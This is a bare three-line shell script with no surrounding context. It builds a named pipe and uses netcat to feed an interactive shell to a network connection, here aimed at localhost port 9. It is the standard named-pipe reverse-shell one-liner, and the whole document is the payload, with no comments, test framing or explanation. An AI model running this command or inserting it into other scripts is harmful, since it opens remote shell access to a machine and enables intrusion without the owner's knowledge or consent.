mkfifo ./f
nc 127.0.0.1 9 <./f | sh -i 2>&1 >./f &
wait
